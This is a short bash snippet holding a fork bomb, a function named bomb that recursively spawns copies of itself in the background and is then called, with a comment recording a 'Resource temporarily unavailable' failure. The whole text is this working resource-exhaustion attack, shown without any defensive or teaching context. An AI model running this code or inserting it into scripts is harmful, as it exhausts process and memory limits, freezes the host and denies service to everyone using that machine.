# failed: Resource temporarily unavailable
bomb() {
    bomb | bomb &
    bomb
}
bomb
